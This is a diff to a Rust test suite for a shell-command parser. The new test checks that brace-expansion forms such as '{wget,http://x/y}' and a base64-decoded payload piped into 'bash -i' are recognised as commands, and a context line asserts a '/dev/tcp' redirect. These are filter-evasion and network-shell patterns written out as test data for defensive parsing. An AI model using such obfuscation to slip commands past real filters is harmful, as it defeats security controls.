@@ -144,3 +144,26 @@ fn options_and_reserved_words_hide_nothing() {
     assert_eq!(command.redirects[0].target.as_str(), "/dev/tcp/192.0.2.1/80");
     assert_eq!(parse("echo $(<file)").commands[1].redirects[0].target.as_str(), "file");
 }
+
+#[test]
+fn a_list_in_braces_is_a_command() {
+    for (text, lines) in [
+        ("{wget,http://x/y}", vec!["wget http://x/y"]),
+        ("{echo,aWQ=}|{base64,-d}|{bash,-i}", vec!["echo aWQ=", "base64 -d", "bash -i"]),
+        ("bash -c {echo,aWQ=}|{base64,-d}", vec!["bash -c {echo,aWQ=}", "echo aWQ=", "base64 -d"]),
+        ("A=b {wget,,-q} x", vec!["A=b wget -q x"]),
+        ("{sudo,sh,-c,id}", vec!["sudo sh -c id", "sh -c id", "id"]),
+        ("ls {a,b}", vec!["ls {a,b}"]),
+        ("'{wget,x}'", vec!["{wget,x}"]),
+        ("{}", vec!["{}"]),
+        ("{wget}", vec!["{wget}"]),
+        ("> {a,b}", vec!["> {a,b}"]),
+    ] {
+        let commands = parse(text).commands;
+        let told: Vec<_> = commands.iter().map(|it| it.line.as_str()).collect();
+        assert_eq!(told, lines, "{text}");
+    }
+    let command = parse("id; {wget,http://x/y}").commands.swap_remove(1);
+    assert_eq!(command.image.as_deref(), Some("/usr/bin/wget"));
+    assert_eq!((command.line.raw(0..4), command.line.raw(5..15), command.span), (5..9, 10..20, 4..21));
+}
